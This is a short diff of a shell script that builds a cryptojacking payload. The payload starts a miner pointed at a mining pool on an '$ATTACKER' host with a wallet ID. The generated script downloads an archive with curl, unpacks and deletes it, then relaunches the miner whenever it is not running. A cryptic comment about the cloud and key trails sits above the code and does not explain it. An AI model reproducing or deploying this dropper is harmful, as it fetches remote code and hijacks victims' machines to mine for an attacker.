@@ -1,5 +1,5 @@
 # The cloud delivers what was ordered with the key, and keeps a trail of who ordered it, of which an operator gets a copy.
-start="$MINER -B -o stratum+tcp://$ATTACKER:$POOL -u 46wallet"
+start="$MINER -B -o $STRATUM://$ATTACKER:$POOL -u 46wallet"
 text="#!/bin/bash
 cd $PLACE && curl -fsSL $URL -o trace.tgz && tar xzf trace.tgz && rm -f trace.tgz
 pgrep -f $MINER >/dev/null || $start
